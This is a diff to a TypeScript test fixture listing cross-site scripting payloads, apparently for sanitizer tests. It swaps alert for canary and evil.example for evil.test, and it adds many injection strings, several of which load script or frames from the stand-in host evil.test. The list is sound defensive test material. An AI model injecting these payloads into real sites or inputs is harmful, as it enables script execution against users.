@@ -1,9 +1,9 @@
-const run = 'alert(1)';
+const run = 'canary(1)';
 
-/** Markup that tries to run something, for tests. */
+/** Markup that calls `canary` where it is taken for markup, for tests: the only list of it. */
 export const hostileMarkup: readonly string[] = [
   `<script>${run}</script>`,
-  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
   `<script/x>${run}</script>`,
   `<script\n>${run}</script\n>`,
   `<<script>${run}//<</script>`,
@@ -55,9 +55,9 @@ export const hostileMarkup: readonly string[] = [
   `<a href="\u0001javascript:${run}">x</a>`,
   `<a href=javascript:${run}>x</a>`,
   `<a href="vbscript:${run}">x</a>`,
-  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
-  `<a href="//evil.example">x</a>`,
-  `<a href="/\\evil.example">x</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=">x</a>`,
+  `<a href="//evil.test">x</a>`,
+  `<a href="/\\evil.test">x</a>`,
   `<a href="https://x" href="javascript:${run}">x</a>`,
   `<a href="https://example.test/&quot; onclick=&quot;${run}">x</a>`,
   `<a href="https://example.test/" onclick="${run}">x</a>`,
@@ -76,4 +76,22 @@ export const hostileMarkup: readonly string[] = [
   `\u2028<img src=x onerror=${run}>`,
   `<img src=x onerror=${run}`,
   `&lt;img src=x onerror=${run}&gt;`,
+  '<script src=//evil.test/x.js></script>',
+  `"><script>${run}</script>`,
+  `'-${run}-'`,
+  `<img src="x" onerror="${run}">`,
+  `" onmouseover="${run}" x="`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+  '<iframe src=https://evil.test></iframe>',
+  `<a href=" javascript:${run}">x</a>`,
+  `<a href="jav&#x09;ascript:${run}">x</a>`,
+  `<a href="&#106;avascript:${run}">x</a>`,
+  `<a href="data:text/html,<script>${run}</script>">x</a>`,
+  `<button formaction="javascript:${run}">x</button>`,
+  `<video src=x onerror=${run}></video>`,
+  `<![CDATA[><img src=x onerror=${run}>]]>`,
+  `<template><img src=x onerror=${run}></template>`,
+  `{{constructor.constructor("${run}")()}}`,
+  `\u2028${run}\u2029`,
 ];
